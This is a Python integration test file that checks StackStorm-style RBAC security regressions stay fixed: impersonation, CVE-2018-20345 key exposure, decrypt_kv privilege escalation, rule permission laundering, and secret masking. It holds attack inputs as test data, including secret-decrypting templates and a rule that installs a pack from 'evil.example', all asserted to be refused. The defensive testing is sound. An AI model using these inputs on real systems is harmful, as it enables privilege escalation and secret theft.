"""Security regressions StackStorm has (had): each one closed, each one tested.

* st2#6379 — impersonation through the ``user`` field of ``POST /api/v1/executions``;
* CVE-2018-20345 — other users' keys through ``GET /keys?scope=all`` / ``?user=``;
* ``decrypt_kv`` in a user's templates decrypting system secrets (at request and run time);
* secrets in executions, rule enforcements and logs; webhook credentials stored with events;
* rules (which run as the system user) used to read or decrypt what their author may not.
"""

from __future__ import annotations

import logging
from collections.abc import Awaitable, Callable
from typing import Any

import httpx
import pytest

from squall.engine.runtime import Runtime
from squall.testing import eventually
from tests.integration.auth.conftest import ClientFactory

RbacFiles = Callable[..., Awaitable[None]]

RUNNER = """\
name: alpha_runner
permission_grants:
  - resource_uid: pack:alpha
    permission_types: [action_all, rule_all]
"""


async def _done(api: httpx.AsyncClient, execution_id: str) -> dict[str, Any]:
    async def finished() -> dict[str, Any] | None:
        doc = (await api.get(f"/api/v1/executions/{execution_id}")).json()
        return doc if doc["status"] in ("succeeded", "failed", "canceled") else None

    return await eventually(finished, timeout=20, message=f"execution {execution_id} finished")


@pytest.fixture
async def alice(client_as: ClientFactory, rbac_files: RbacFiles) -> httpx.AsyncClient:
    """A user who may run pack alpha's actions and view everything (observer)."""
    await rbac_files(
        roles={"alpha_runner": RUNNER},
        assignments={"alice": "username: alice\nroles: [alpha_runner, observer]\n"},
    )
    return await client_as("alice")


# --- st2#6379 -------------------------------------------------------------------------------


async def test_no_impersonation_through_the_user_field(
    runtime: Runtime, api: httpx.AsyncClient, alice: httpx.AsyncClient, client_as: ClientFactory
) -> None:
    body = {"action": "alpha.say", "user": "admin"}
    resp = await alice.post("/api/v1/executions", json=body)
    assert resp.status_code == 403
    assert "may not run actions as 'admin'" in resp.json()["faultstring"]
    same = await alice.post("/api/v1/executions", json={**body, "user": "alice"})
    assert same.status_code == 201
    # An admin may act as another user, with that user's permissions.
    await client_as("bob")
    as_bob = await api.post("/api/v1/executions", json={**body, "user": "bob"})
    assert as_bob.status_code == 403
    assert "user 'bob' lacks permission 'action_execute'" in as_bob.json()["faultstring"]
    as_alice = await api.post("/api/v1/executions", json={**body, "user": "alice"})
    assert as_alice.status_code == 201
    assert as_alice.json()["context"]["user"] == "alice"


# --- CVE-2018-20345 -------------------------------------------------------------------------


async def test_no_other_users_keys(
    runtime: Runtime, api: httpx.AsyncClient, alice: httpx.AsyncClient, client_as: ClientFactory
) -> None:
    put = await alice.put(
        "/api/v1/keys/diary", json={"value": "dear diary", "scope": "user", "secret": True}
    )
    assert put.status_code == 200, put.text
    bob = await client_as("bob", roles=["observer"])
    for params in ({"scope": "all"}, {"scope": "user"}, {}):
        listed = await bob.get("/api/v1/keys", params=params)
        assert listed.status_code == 200
        assert all(k["name"] != "diary" for k in listed.json()), params
    for params in ({"scope": "all", "user": "alice"}, {"scope": "user", "user": "alice"}):
        resp = await bob.get("/api/v1/keys", params=params)
        assert resp.status_code == 403, params
    named = await bob.get("/api/v1/keys/diary", params={"scope": "user", "user": "alice"})
    assert named.status_code == 403
    # The owner decrypts their own secret; an admin may name the user explicitly.
    own = await alice.get("/api/v1/keys/diary", params={"scope": "user", "decrypt": "true"})
    assert own.json()["value"] == "dear diary"
    admin_view = await api.get("/api/v1/keys/diary", params={"scope": "user", "user": "alice"})
    assert admin_view.status_code == 200
    assert admin_view.json()["value"] != "dear diary"  # still encrypted without decrypt


# --- decrypt_kv on a user's behalf ---------------------------------------------------------


async def test_decrypt_kv_respects_who_is_running(
    runtime: Runtime, api: httpx.AsyncClient, alice: httpx.AsyncClient
) -> None:
    await api.put("/api/v1/keys/api_token", json={"value": "TOP-SECRET", "secret": True})
    await alice.put("/api/v1/keys/mine", json={"value": "my-own", "scope": "user", "secret": True})

    async def run(client: httpx.AsyncClient, template: str) -> httpx.Response:
        return await client.post(
            "/api/v1/executions",
            json={"action": "alpha.echo", "parameters": {"message": template}},
        )

    denied = await run(alice, "{{ st2kv.system.api_token | decrypt_kv }}")
    assert denied.status_code == 403
    assert "may not decrypt system key 'api_token'" in denied.json()["faultstring"]
    ciphertext = (await alice.get("/api/v1/keys/api_token")).json()["value"]
    pasted = await run(alice, "{{ '" + ciphertext + "' | decrypt_kv }}")
    assert pasted.status_code == 403
    assert "not read from the datastore" in pasted.json()["faultstring"]
    default = await alice.post("/api/v1/executions", json={"action": "alpha.with_secret_default"})
    assert default.status_code == 403
    own = await run(alice, "{{ st2kv.user.mine | decrypt_kv }}")
    assert own.status_code == 201, own.text
    assert "my-own" in (await _done(api, own.json()["id"]))["result"]["stdout"]
    admin = await run(api, "{{ st2kv.system.api_token | decrypt_kv }}")
    assert admin.status_code == 201
    assert "TOP-SECRET" in (await _done(api, admin.json()["id"]))["result"]["stdout"]


async def test_decrypt_kv_is_checked_again_when_the_execution_runs(
    runtime: Runtime, api: httpx.AsyncClient, alice: httpx.AsyncClient
) -> None:
    """The key a template names may change between the request and the run (a delayed
    execution, a user key naming the system key): the run renders with the user's rights."""
    await api.put("/api/v1/keys/api_token", json={"value": "TOP-SECRET", "secret": True})
    await api.put("/api/v1/keys/harmless", json={"value": "plain"})
    await alice.put("/api/v1/keys/target", json={"value": "harmless", "scope": "user"})
    resp = await alice.post(
        "/api/v1/executions",
        json={
            "action": "alpha.echo",
            "parameters": {"message": "{{ st2kv.system[st2kv.user.target] | decrypt_kv }}"},
            "delay": 1500,
        },
    )
    assert resp.status_code == 201, resp.text
    await alice.put("/api/v1/keys/target", json={"value": "api_token", "scope": "user"})
    doc = await _done(api, resp.json()["id"])
    assert doc["status"] == "failed"
    assert "TOP-SECRET" not in str(doc)
    assert "may not decrypt system key 'api_token'" in str(doc["result"])


async def test_template_reads_of_system_keys_need_key_value_pair_view(
    runtime: Runtime, api: httpx.AsyncClient, client_as: ClientFactory, rbac_files: RbacFiles
) -> None:
    await rbac_files(
        roles={"alpha_runner": RUNNER},
        assignments={"rita": "username: rita\nroles: [alpha_runner]\n"},
    )
    await api.put("/api/v1/keys/plain", json={"value": "p"})
    rita = await client_as("rita")
    resp = await rita.post(
        "/api/v1/executions",
        json={"action": "alpha.say", "parameters": {"message": "{{ st2kv.system.plain }}"}},
    )
    assert resp.status_code == 403
    assert "'key_value_pair_view' on 'key_value_pair:system:plain'" in resp.json()["faultstring"]


# --- rules run as the system user -----------------------------------------------------------


PACK_INSTALLER = """\
name: pack_installer
description: May write rules and run the packs pack's actions, but is no administrator.
permission_grants:
  - resource_uid: pack:packs
    permission_types: [action_view, action_execute, rule_view, rule_create, rule_modify]
  - resource_uid: pack:alpha
    permission_types: [action_execute, rule_create, rule_modify]
"""


async def test_rules_cannot_launder_pack_installs(
    runtime: Runtime, api: httpx.AsyncClient, client_as: ClientFactory, rbac_files: RbacFiles
) -> None:
    await rbac_files(
        roles={"pack_installer": PACK_INSTALLER},
        assignments={"ivan": "username: ivan\nroles: [pack_installer]\n"},
    )
    ivan = await client_as("ivan")
    interval = {"type": "core.st2.IntervalTimer", "parameters": {"unit": "seconds", "delta": 60}}
    for pack, action in (("packs", "packs.install"), ("packs", "packs.squall_install")):
        rule = {
            "name": "deploy",
            "pack": pack,
            "trigger": interval,
            "action": {"ref": action, "parameters": {"packs": ["https://evil.example/x.git"]}},
        }
        resp = await ivan.post("/api/v1/rules", json=rule)
        assert resp.status_code == 403, resp.text
        message = resp.json()["faultstring"]
        assert f"user 'ivan' may not write a rule running '{action}'" in message
        assert "only administrators may" in message
    # Pointing an allowed rule at packs.install later is refused the same way.
    ok = await ivan.post(
        "/api/v1/rules",
        json={"name": "r1", "pack": "alpha", "trigger": interval, "action": {"ref": "alpha.say"}},
    )
    assert ok.status_code == 201, ok.text
    moved = await ivan.put(
        "/api/v1/rules/alpha.r1",
        json={**ok.json(), "action": {"ref": "packs.install", "parameters": {"packs": ["x/y"]}}},
    )
    assert moved.status_code == 403, moved.text
    assert "may not write a rule running 'packs.install'" in moved.json()["faultstring"]
    # An administrator may.
    admin_rule = {
        "name": "deploy",
        "pack": "packs",
        "trigger": interval,
        "action": {"ref": "packs.install", "parameters": {"packs": ["x/y"]}},
        "enabled": False,
    }
    assert (await api.post("/api/v1/rules", json=admin_rule)).status_code == 201


async def test_rules_cannot_launder_permissions(
    runtime: Runtime, api: httpx.AsyncClient, client_as: ClientFactory, rbac_files: RbacFiles
) -> None:
    await rbac_files(
        roles={"alpha_runner": RUNNER},
        assignments={"rick": "username: rick\nroles: [alpha_runner]\n"},
    )
    rick = await client_as("rick")
    base = {
        "name": "r1",
        "pack": "alpha",
        "trigger": {"type": "core.st2.webhook", "parameters": {"url": "rick"}},
        "action": {"ref": "alpha.say"},
    }
    no_webhook = await rick.post("/api/v1/rules", json=base)
    assert no_webhook.status_code == 403
    assert "'webhook_create' on 'webhook:rick'" in no_webhook.text
    interval = {"type": "core.st2.IntervalTimer", "parameters": {"unit": "seconds", "delta": 60}}
    other_action = await rick.post(
        "/api/v1/rules", json={**base, "trigger": interval, "action": {"ref": "core.local"}}
    )
    assert other_action.status_code == 403
    assert "'action_execute' on 'action:core:local'" in other_action.text
    decrypting = {
        **base,
        "trigger": interval,
        "action": {
            "ref": "alpha.say",
            "parameters": {"message": "{{ st2kv.system.api_token | decrypt_kv }}"},
        },
    }
    assert (await rick.post("/api/v1/rules", json=decrypting)).status_code == 403
    trial = await rick.post("/api/v1/rules/test", json={"rule": decrypting, "payload": {}})
    assert trial.status_code == 403
    ok = await rick.post("/api/v1/rules", json={**base, "trigger": interval})
    assert ok.status_code == 201, ok.text
    assert ok.json()["context"]["user"] == "rick"
    assert (await api.post("/api/v1/rules", json={**decrypting, "name": "r2"})).status_code == 201


# --- secrets masked -----------------------------------------------------------------------------


async def test_secrets_are_masked_in_executions_and_logs(
    runtime: Runtime, api: httpx.AsyncClient, caplog: pytest.LogCaptureFixture
) -> None:
    caplog.set_level(logging.DEBUG)
    secret = "hunter2-very-secret"
    resp = await api.post(
        "/api/v1/executions",
        json={"action": "alpha.echo", "parameters": {"message": "hi", "password": secret}},
    )
    assert resp.status_code == 201
    doc = await _done(api, resp.json()["id"])
    assert doc["parameters"]["password"] == "********"
    assert doc["liveaction"]["parameters"]["password"] == "********"
    listed = (await api.get("/api/v1/executions")).json()
    assert secret not in str(listed) and secret not in str(doc)
    assert all(secret not in r.getMessage() for r in caplog.records)
    # Failed logins are logged without the password tried.
    await api.post("/auth/v1/tokens", auth=("admin", "wrong-" + secret))
    assert any("failed login" in r.getMessage() for r in caplog.records)
    assert all(secret not in r.getMessage() for r in caplog.records)


async def test_rule_enforcements_do_not_leak_secret_parameters(
    runtime: Runtime, api: httpx.AsyncClient
) -> None:
    secret = "rule-literal-secret"
    rule = {
        "name": "leaky",
        "pack": "alpha",
        "enabled": True,
        "trigger": {"type": "core.st2.webhook", "parameters": {"url": "leaky"}},
        "action": {"ref": "alpha.say", "parameters": {"token": secret}},
    }
    assert (await api.post("/api/v1/rules", json=rule)).status_code == 201
    hook = await api.post("/api/v1/webhooks/leaky", json={"a": 1})
    assert hook.status_code == 202

    async def enforced() -> list[dict[str, Any]]:
        docs: list[dict[str, Any]] = (
            await api.get("/api/v1/ruleenforcements", params={"rule_ref": "alpha.leaky"})
        ).json()
        return [d for d in docs if d.get("execution_id")]

    enforcement = (await eventually(enforced, timeout=20))[0]
    assert secret not in str(enforcement)
    execution = await _done(api, enforcement["execution_id"])
    assert execution["parameters"]["token"] == "********"
    assert secret not in str(execution)


# --- webhooks ------------------------------------------------------------------------------------


async def test_webhook_credentials_are_never_stored(
    runtime: Runtime, api: httpx.AsyncClient
) -> None:
    key = (await api.post("/api/v1/apikeys", json={})).json()["key"]
    token = api.headers["X-Auth-Token"]
    resp = await api.post(
        "/api/v1/webhooks/alpha-hook",
        json={"message": "hello"},
        headers={"St2-Api-Key": key, "X-Custom": "kept", "Authorization": "Basic eDp5"},
    )
    assert resp.status_code == 202, resp.text
    instances = (await api.get("/api/v1/triggerinstances")).json()
    stored = [i for i in instances if i["trigger"].startswith("core.st2.webhook")]
    assert stored, instances
    text = str(stored)
    assert token not in text and key not in text and "eDp5" not in text
    headers = stored[0]["payload"]["headers"]
    assert headers.get("x-custom") == "kept"
    assert not {"x-auth-token", "st2-api-key", "authorization"} & set(headers)


async def test_webhook_send_needs_permission(
    runtime: Runtime, api: httpx.AsyncClient, client_as: ClientFactory, rbac_files: RbacFiles
) -> None:
    second = {
        "name": "second",
        "pack": "beta",
        "enabled": True,
        "trigger": {"type": "core.st2.webhook", "parameters": {"url": "second-hook"}},
        "action": {"ref": "beta.say"},
    }
    assert (await api.post("/api/v1/rules", json=second)).status_code == 201
    await rbac_files(
        roles={
            "hooker": "name: hooker\npermission_grants:\n  - resource_uid: webhook:alpha-hook\n"
            "    permission_types: [webhook_send]\n"
        },
        assignments={"hank": "username: hank\nroles: [hooker]\n"},
    )
    nobody = await client_as("nora")
    denied = await nobody.post("/api/v1/webhooks/alpha-hook", json={"message": "x"})
    assert denied.status_code == 403
    assert "'webhook_send' on 'webhook:alpha-hook'" in denied.json()["faultstring"]
    generic = await nobody.post("/api/v1/webhooks/st2", json={"trigger": "x", "payload": {}})
    assert generic.status_code == 403
    hank = await client_as("hank")
    ok = await hank.post("/api/v1/webhooks/alpha-hook", json={"message": "x"})
    assert ok.status_code == 202
    other = await hank.post("/api/v1/webhooks/second-hook", json={"message": "x"})
    assert other.status_code == 403
